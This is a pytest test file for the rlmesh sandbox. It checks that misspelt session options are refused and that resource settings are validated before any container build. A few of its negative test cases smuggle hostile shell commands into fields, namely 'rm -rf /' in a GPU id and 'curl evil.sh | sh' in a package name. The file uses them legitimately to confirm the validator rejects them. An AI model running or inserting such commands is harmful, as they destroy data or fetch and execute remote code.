"""Session keywords, checked on the host before anything is built (no engine needed).

A keyword that is not a sandbox option goes to the env's constructor inside the container; one
that looks like a misspelt option is refused here, naming the option it probably meant.
"""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

import rlmesh.numpy as rnp
from rlmesh.errors import PackageSpecError, SandboxError
from rlmesh.sandbox.session import SandboxSessionBase


class Reached(Exception):
    """The session got past its keyword checks to the first step that builds anything."""

    def __init__(self, settings: dict[str, Any]) -> None:
        super().__init__("reached the recipe")
        self.settings = settings


@pytest.fixture(autouse=True)
def stop_before_building(monkeypatch: pytest.MonkeyPatch) -> None:
    def recipe(self: SandboxSessionBase[Any], base_dir: Path) -> Any:
        raise Reached(self.settings)

    monkeypatch.setattr(SandboxSessionBase, "_recipe", recipe)


@pytest.fixture
def policy_file(tmp_path: Path) -> Path:
    path = tmp_path / "policy.py"
    path.write_text("def predict(obs):\n    return 0\n")
    return path


@pytest.mark.parametrize("keyword, option", [
    ("memroy", "memory"),
    ("build_mem", "build_memory"),
    ("cpu", "cpus"),
    ("gpu", "gpus"),
    ("system_package", "system_packages"),
    ("strict_limit", "strict_limits"),
    ("package", "packages"),
    ("pacakges", "packages"),
    ("imoprts", "imports"),
    ("import", "imports"),
    ("capability", "capabilities"),
    ("num_env", "num_envs"),
    ("startup_timout", "startup_timeout"),
    ("trust_remote", "trust_remote_code"),
])
def test_near_miss_of_an_option_is_refused_on_the_host(keyword: str, option: str) -> None:
    with pytest.raises(TypeError) as caught:
        rnp.SandboxEnv("CartPole-v1", **{keyword: "x"})
    message = str(caught.value)
    assert f"{keyword}=" in message and "did you mean" in message and f" {option}=" in message
    assert "build_memory" in message and "packages" in message  # names the known options
    assert "make_kwargs" in message  # and how to pass such a name to the env anyway


def test_vector_session_refuses_near_misses_too() -> None:
    with pytest.raises(TypeError, match="did you mean imports="):
        rnp.SandboxVectorEnv("CartPole-v1", 2, imoprts=["gymnasium"])


def test_model_session_suggests_the_option_it_meant(policy_file: Path) -> None:
    with pytest.raises(TypeError, match="did you mean packages="):
        rnp.SandboxModel(policy_file, package=["numpy"])
    with pytest.raises(TypeError, match="did you mean batched="):
        rnp.SandboxModel(policy_file, batchd=True)
    with pytest.raises(TypeError, match="unknown SandboxModel options.*num_envs"):
        rnp.SandboxModel(policy_file, num_envs=2)  # an env option: refused, no near-miss needed


GENUINE: dict[str, Any] = {
    "max_episode_steps": 50, "render_mode": "rgb_array", "gravity": 9.8, "mode": 2,
    "disable_env_checker": True, "num_agents": 3, "memory_size": 4, "env_config": {"a": 1},
}


def test_make_kwargs_still_reach_the_env() -> None:
    with pytest.raises(Reached) as caught:
        rnp.SandboxEnv("CartPole-v1", **GENUINE)
    assert caught.value.settings["make_kwargs"] == GENUINE
    with pytest.raises(Reached) as caught:
        rnp.SandboxVectorEnv("CartPole-v1", 2, vector_kwargs={"autoreset_mode": "SameStep"}, **GENUINE)
    assert caught.value.settings["make_kwargs"] == {**GENUINE, "vector_kwargs": {"autoreset_mode": "SameStep"}}


def test_config_make_kwargs_pass_a_name_that_looks_like_an_option() -> None:
    with pytest.raises(Reached) as caught:
        rnp.SandboxEnv("CartPole-v1", config={"make_kwargs": {"memory": 4}}, render_mode="rgb_array")
    assert caught.value.settings["make_kwargs"] == {"memory": 4, "render_mode": "rgb_array"}


def test_resource_options_reach_the_session() -> None:
    with pytest.raises(Reached):
        rnp.SandboxEnv("CartPole-v1", cpus=1.5, memory="2G", gpus=[0, "GPU-1a2b"], shm_size="1g",
                       env={"MUJOCO_GL": "osmesa"}, system_packages=["libosmesa6"], strict_limits=False)
    # The config file carries them too; explicit arguments win.
    with pytest.raises(Reached) as caught:
        rnp.SandboxEnv("CartPole-v1", config={"memory": "1g", "cpus": 2, "env": {"A": "1"}}, cpus=1)
    assert {k: caught.value.settings[k] for k in ("memory", "cpus", "env")} == {"memory": "1g", "cpus": 1,
                                                                                 "env": {"A": "1"}}


def test_resources_are_checked_and_passed_as_run_options() -> None:
    from rlmesh.sandbox.resources import Resources

    resources = Resources.from_settings({"cpus": 2, "memory": "2G", "gpus": "all", "shm_size": "64m",
                                         "env": {"X": "y"}}, frozenset())
    assert resources.run_options() == {"cpus": 2.0, "memory": "2g", "gpus": True, "shm_size": "64m",
                                       "strict_limits": True}
    assert Resources.from_settings({"gpus": [0, 2]}, frozenset()).gpus == ("0", "2")
    assert Resources.from_settings({}, frozenset({"gpu"})).gpus is True  # capabilities=["gpu"]
    assert Resources.from_settings({}, frozenset()).gpus is False


@pytest.mark.parametrize("options, words", [
    ({"memory": "2 gigs"}, "memory='2 gigs' is not a size"),
    ({"memory": 2048}, "memory=2048 is not a size"),
    ({"shm_size": "-1g"}, "shm_size='-1g' is not a size"),
    ({"cpus": 0}, "cpus=0 must be a positive number"),
    ({"cpus": "2"}, "cpus='2' must be a positive number"),
    ({"gpus": ["0; rm -rf /"]}, "gpus=.*give 'all'"),
    ({"gpus": []}, "gpus=.*give 'all'"),
    ({"env": {"BAD-NAME": "1"}}, "not a variable name"),
    ({"env": {"RLMESH_SANDBOX": "{}"}}, "set by the sandbox itself"),
    ({"env": {"N": 1}}, "must be a string"),
    ({"env": ["A=1"]}, "must be a mapping"),
    ({"strict_limits": "no"}, "strict_limits='no'"),
    ({"system_packages": ["-o", "Dpkg::Options=x"]}, "is an option"),
    ({"system_packages": ["libgl1; curl evil.sh | sh"]}, "not a Debian package name"),
    ({"system_packages": "libosmesa6"}, "must be a list of names"),
])
def test_bad_resource_options_fail_before_any_build(options: dict[str, Any], words: str) -> None:
    with pytest.raises((SandboxError, PackageSpecError), match=words):
        rnp.SandboxEnv("CartPole-v1", **options)


def test_a_full_dockerfile_override_refuses_system_packages(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.undo()  # the real recipe step, which refuses before building
    dockerfile = tmp_path / "Dockerfile"
    dockerfile.write_text("FROM rlmesh-base:bookworm\n")
    with pytest.raises(SandboxError, match="system_packages apply to the generated recipe"):
        rnp.SandboxEnv("CartPole-v1", override=dockerfile, system_packages=["libosmesa6"])
